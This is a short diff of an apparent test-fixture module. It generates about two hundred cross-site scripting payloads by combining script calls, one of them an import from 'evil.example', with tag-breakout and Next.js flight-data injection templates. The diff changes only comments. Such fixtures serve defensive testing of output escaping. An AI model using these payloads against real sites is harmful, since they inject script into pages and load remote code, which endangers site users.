@@ -1,6 +1,6 @@
 const CALLS = ['alert(1)', 'pwned()', 'window.pwned=1', "import('//evil.example')", 'print()']
 
-/** Ways out of a text and into a page, each with a mark where the call goes. */
+/** Ways out of a text and into a page, each with a mark in place of the call. */
 const WAYS = [
   '<script>CALL</script>',
   '</script><script>CALL</script>',
@@ -44,5 +44,5 @@ const WAYS = [
   '"]);CALL;self.__next_f.push([1,"',
 ]
 
-/** Two hundred texts that would be programs if anybody took them for markup. */
+/** Two hundred texts that would be programs if the app treated them as markup. */
 export const PAYLOADS = CALLS.flatMap((call) => WAYS.map((way) => way.replaceAll('CALL', call)))
